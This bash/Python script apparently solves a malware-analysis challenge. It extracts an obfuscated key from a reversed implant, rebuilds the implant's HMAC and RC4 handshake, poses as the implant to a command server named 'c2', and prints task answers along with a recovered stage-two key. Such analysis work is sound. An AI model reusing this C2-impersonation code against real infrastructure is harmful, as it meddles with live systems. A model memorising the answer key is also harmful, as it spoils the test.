#!/bin/bash
# From reversing ./implant (stripped, libcrypto):
#  - C2 "c2", port 0x1d13 = 7443; greeting "C2v3" + 16-byte nonce
#  - 32-byte secret = blob[i] ^ (0x5A + 13*i), blob = 32 bytes in .rodata
#  - host id = hex(SHA256(hostname ":" machine-id))[:16]
#  - hello = id (16 ASCII) + HMAC-SHA256(secret, nonce || id)
#  - key = SHA256(secret || nonce || id); RC4, first 256 bytes dropped,
#    one state per direction; request 'T' 00 00; reply 'T' len16 text
set -euo pipefail
cd "$HOME/incident"
python3 - <<'PY'
import hashlib, hmac, socket, struct
elf = open("implant", "rb").read()
# the obfuscated secret is a 32-byte constant in .rodata: try each aligned slot
shoff, = struct.unpack_from("<Q", elf, 0x28)
shentsize, shnum, shstrndx = struct.unpack_from("<HHH", elf, 0x3A)
sh = [struct.unpack_from("<IIQQQQIIQQ", elf, shoff + k * shentsize) for k in range(shnum)]
names = elf[sh[shstrndx][4]:]
ro = [x for x in sh if names[x[0]:].split(b"\0")[0] == b".rodata"][0]
cands = [elf[o:o + 32] for o in range(ro[4], ro[4] + ro[5] - 31, 16)]
mid = open("machine-id").read().strip()
host = open("hostname").read().strip()
hid = hashlib.sha256(("%s:%s" % (host, mid)).encode()).hexdigest()[:16].encode()
print("answer[1]: " + hid.decode())
print("answer[2]: RC4")

class RC4:
    def __init__(self, key):
        s = list(range(256)); j = 0
        for x in range(256):
            j = (j + s[x] + key[x % len(key)]) & 255; s[x], s[j] = s[j], s[x]
        self.s, self.i, self.j = s, 0, 0; self.crypt(bytes(256))
    def crypt(self, d):
        s, o = self.s, bytearray()
        for c in d:
            self.i = (self.i + 1) & 255; self.j = (self.j + s[self.i]) & 255
            s[self.i], s[self.j] = s[self.j], s[self.i]; o.append(c ^ s[(s[self.i] + s[self.j]) & 255])
        return bytes(o)

def recvn(k, n):
    b = b""
    while len(b) < n:
        d = k.recv(n - len(b))
        if not d: raise ConnectionError("closed")
        b += d
    return b

for blob in cands:
    sec = bytes(b ^ ((0x5A + 13 * x) & 0xFF) for x, b in enumerate(blob))
    k = socket.create_connection(("c2", 7443), timeout=5)
    g = recvn(k, 20); nonce = g[4:]
    k.sendall(hid + hmac.new(sec, nonce + hid, hashlib.sha256).digest())
    key = hashlib.sha256(sec + nonce + hid).digest()
    tx, rx = RC4(key), RC4(key)
    k.sendall(tx.crypt(b"T\x00\x00"))
    try:
        h = rx.crypt(recvn(k, 3))
    except (ConnectionError, OSError):
        k.close(); continue
    task = rx.crypt(recvn(k, struct.unpack(">H", h[1:])[0])).decode()
    k.close()
    import re
    print(re.search(r"STAGE2_KEY=(\S+)", task).group(1)); break
PY
